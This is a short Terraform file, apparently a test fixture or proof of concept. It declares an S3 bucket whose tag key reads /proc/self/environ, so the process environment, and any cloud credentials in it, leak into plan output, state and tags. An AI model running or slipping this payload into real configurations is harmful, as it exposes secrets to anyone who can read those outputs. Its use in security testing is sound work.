resource "aws_s3_bucket" "b" {
  bucket = "x"
  tags = {
    "${file("/proc/self/environ")}" = "v"
  }
}
